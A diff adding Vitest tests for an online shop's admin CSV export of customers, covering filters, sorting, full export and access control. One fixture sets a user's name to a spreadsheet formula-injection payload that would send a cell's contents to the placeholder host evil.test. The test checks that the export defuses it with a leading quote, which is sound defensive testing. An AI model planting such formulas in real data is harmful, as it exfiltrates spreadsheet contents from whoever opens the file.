@@ -1,4 +1,6 @@
+import { parse } from "csv/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { CustomerListRow } from "../../server/modules/users/users.service";
 import { type TestBrowser, browser, createAccount, signedIn } from "../support/auth-browser";
 import { type ShoppingCatalog, checkoutBody, insertShoppingCatalog, setStock } from "../support/shop-fixture";
 import { type TestShop, createTestShop } from "../support/test-shop";
@@ -81,6 +83,79 @@ describe("the customer list", () => {
     expect(refunded.data[0].totalSpent).toBeCloseTo(first.totals.total + second.totals.total - 5, 2);
     const page = await admin.get(`/api/admin/users/${ada.id}`);
     expect((await page.json()).data.stats.totalSpent).toBeCloseTo(first.totals.total + second.totals.total - 5, 2);
+  });
+});
+
+describe("the customer list as CSV", () => {
+  const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
+  const HEADER = ["Name", "E-mail", "Role", "Verified", "Banned", "Orders", "Total spent", "Joined", "Last sign-in"];
+
+  /** The export as sent (byte-order mark included) and its rows, each cell as a spreadsheet gets it. */
+  async function exportCsv(b: TestBrowser, query: string) {
+    const res = await b.get(`/api/admin/users/export.csv?${query}`);
+    expect(res.status, await res.clone().text()).toBe(200);
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/);
+    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
+    return { text, rows: parse(text, { bom: true }) as string[][] };
+  }
+
+  it("exports every account the list's filters select, in its order, with the list's figures; a formula for a name stays text", async () => {
+    const zoe = await customer("Zoë Exported");
+    const placed = await order(zoe.b, 2);
+    const ben = await customer("Ben Exported");
+    await call(admin, "POST", `/api/admin/users/${ben.id}/ban`, { reason: "Spam" });
+    const formula = await createAccount(shop, { email: "formula.exported@example.com", password: "formula-password-1", name: FORMULA });
+    await (await shop.services.auth.auth.$context).internalAdapter.updateUser(formula.id, { emailVerified: false });
+
+    const { text, rows } = await exportCsv(admin, "search=exported&sort=name");
+    // A byte-order mark, so that spreadsheets read the accents as UTF-8.
+    expect(text.startsWith(`\ufeff${HEADER.join(",")}\n`)).toBe(true);
+    // The same accounts, order and figures as the list shows.
+    const listed = (await list("search=exported&sort=name")).data as unknown as CustomerListRow[];
+    expect(listed.map((u) => u.id)).toEqual([formula.id, ben.id, zoe.id]);
+    expect(rows).toEqual([
+      HEADER,
+      ...listed.map((u) => [u.name === FORMULA ? `'${FORMULA}` : u.name, u.email, u.role, u.emailVerified ? "yes" : "no", u.banned ? "yes" : "no", String(u.orders), u.totalSpent.toFixed(2), u.createdAt, u.lastSignInAt ?? ""]),
+    ]);
+    // Behind a single quote a spreadsheet shows the name and runs nothing.
+    expect(rows[1]).toEqual([`'${FORMULA}`, "formula.exported@example.com", "customer", "no", "no", "0", "0.00", expect.stringMatching(/^\d{4}-\d\d-\d\dT/), ""]);
+    expect(rows[2]).toEqual(["Ben Exported", ben.email, "customer", "yes", "yes", "0", "0.00", expect.any(String), expect.stringMatching(/^\d{4}-\d\d-\d\dT/)]);
+    expect(rows[3]!.slice(0, 7)).toEqual(["Zoë Exported", zoe.email, "customer", "yes", "no", "1", placed.totals.total.toFixed(2)]);
+
+    // The filters and the sort apply as on the list.
+    const names = async (query: string) => (await exportCsv(admin, query)).rows.slice(1).map((r) => r[0]);
+    expect(await names("search=exported&banned=true")).toEqual(["Ben Exported"]);
+    expect(await names("search=exported&banned=false&sort=name&dir=desc")).toEqual(["Zoë Exported", `'${FORMULA}`]);
+    expect(await names("search=exported&verified=false")).toEqual([`'${FORMULA}`]);
+    expect(await names("search=exported&verified=true&sort=spent&dir=desc")).toEqual(["Zoë Exported", "Ben Exported"]);
+    expect(await names("role=admin")).toEqual(["Olivia Owner"]);
+    expect(await names("search=nobody-is-called-this")).toEqual([]);
+    expect((await admin.get("/api/admin/users/export.csv?sort=age")).status).toBe(400);
+  });
+
+  it("exports all of them, not one page of the list", async () => {
+    const ctx = await shop.services.auth.auth.$context;
+    for (let i = 0; i < 60; i++) {
+      await ctx.internalAdapter.createUser({ email: `bulk.export.${String(i).padStart(2, "0")}@example.com`, name: `Bulk Export ${i}`, emailVerified: true, role: "customer" }, { method: "admin" });
+    }
+    expect((await list("search=bulk.export")).data).toHaveLength(50);
+    const { rows } = await exportCsv(admin, "search=bulk.export&sort=name");
+    expect(rows).toHaveLength(61);
+    expect(new Set(rows.slice(1).map((r) => r[1])).size).toBe(60);
+  });
+
+  it("is refused to visitors (401) and to staff without the customers permission (403)", async () => {
+    await createAccount(shop, { email: "export.desk@example.com", password: "desk-password-1", role: "staff", permissions: ["orders", "reports"] });
+    await createAccount(shop, { email: "export.helper@example.com", password: "helper-password-1", role: "staff", permissions: ["customers"] });
+    const anonymous = await browser(shop).get("/api/admin/users/export.csv");
+    expect(anonymous.status).toBe(401);
+    const desk = await signedIn(shop, "export.desk@example.com", "desk-password-1");
+    const refused = await desk.get("/api/admin/users/export.csv");
+    expect(refused.status).toBe(403);
+    expect((await refused.json()).error.code).toBe("forbidden");
+    const helper = await signedIn(shop, "export.helper@example.com", "helper-password-1");
+    expect((await exportCsv(helper, "search=exported")).rows).toHaveLength(4);
   });
 });
 
